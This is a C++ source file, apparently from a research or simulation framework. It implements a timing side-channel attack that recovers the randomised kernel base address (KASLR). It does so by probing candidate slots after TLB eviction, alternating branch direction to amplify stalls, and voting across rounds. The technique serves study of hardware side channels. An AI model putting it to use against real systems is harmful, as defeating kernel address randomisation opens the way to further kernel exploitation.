#include "core/attacks/kaslr.h"

#include <algorithm>
#include <limits>

namespace whisper::core {

int first_mapped_slot(std::span<const std::uint64_t> scores) {
  std::vector<std::uint64_t> sorted(scores.begin(), scores.end());
  std::sort(sorted.begin(), sorted.end());
  const std::uint64_t fastest = sorted.front();
  const std::uint64_t median = sorted[sorted.size() / 2];
  const std::uint64_t threshold = fastest + (median - fastest) / 2;
  for (std::size_t s = 0; s < scores.size(); ++s)
    if (scores[s] <= threshold) return static_cast<int>(s);
  return 0;
}

void KaslrAttack::execute(std::span<const std::uint8_t> /*payload*/,
                          AttackResult& r) {
  r.true_base = m_.kernel().kernel_base();
  probe_offset_ = m_.kernel().kpti() ? os::kKptiTrampolineOffset : 0;
  r.found_slot = scan(r);
  r.found_base = os::kaslr_slot_base(r.found_slot);
  r.success = r.found_base == r.true_base;
}

TetKaslr::TetKaslr(os::Machine& m, Options opt)
    : KaslrAttack(m, "kaslr", opt),
      rounds_(opt.rounds),
      double_probe_(opt.double_probe),
      window_(opt.window.value_or(preferred_window(m.config()))),
      gadget_(make_kaslr_gadget(window_)) {}

std::uint64_t TetKaslr::probe_once(std::uint64_t vaddr, bool evict) {
  if (evict) m_.evict_tlbs();
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(isa::Reg::RCX)] = vaddr;
  // Alternate the Jcc direction so the probe branch stays weakly predicted —
  // the pipeline-stall amplifier of Listing 2.
  regs[static_cast<std::size_t>(isa::Reg::RBX)] = jcc_parity_ ? 1 : 0;
  jcc_parity_ = !jcc_parity_;
  return run_tote(m_, gadget_, regs);
}

std::vector<std::uint64_t> TetKaslr::sweep_round(bool double_probe,
                                                 AttackResult& r) {
  std::vector<std::uint64_t> scores(
      os::kKaslrSlots, std::numeric_limits<std::uint64_t>::max());
  for (int s = 0; s < os::kKaslrSlots; ++s) {
    const std::uint64_t target = slot_target(s);
    std::uint64_t tote;
    if (double_probe) {
      // First probe (after eviction) warms the TLB iff the target is
      // genuinely mapped; the second probe is the measurement.
      (void)probe_once(target, /*evict=*/true);
      ++r.probes;
      tote = probe_once(target, /*evict=*/false);
    } else {
      tote = probe_once(target, /*evict=*/true);
    }
    ++r.probes;
    if (tote != 0) {
      const auto i = static_cast<std::size_t>(s);
      scores[i] = tote;
      r.slot_scores[i] = std::min(r.slot_scores[i], tote);
    }
  }
  return scores;
}

int TetKaslr::scan(AttackResult& r) {
  const bool double_probe = double_probe_.value_or(m_.kernel().flare());
  r.slot_scores.assign(os::kKaslrSlots,
                       std::numeric_limits<std::uint64_t>::max());
  std::vector<std::uint32_t> votes(os::kKaslrSlots, 0);
  std::size_t rounds = 0;
  r.confidence = escalate(
      rounds_, r,
      [&](int) {
        ++votes[static_cast<std::size_t>(
            first_mapped_slot(sweep_round(double_probe, r)))];
        ++rounds;
      },
      [&] { return vote_margin(votes, rounds); });

  for (const std::uint64_t score : r.slot_scores)
    if (score != std::numeric_limits<std::uint64_t>::max())
      r.tote.add(static_cast<std::int64_t>(score));
  return static_cast<int>(std::max_element(votes.begin(), votes.end()) -
                          votes.begin());
}

}  // namespace whisper::core
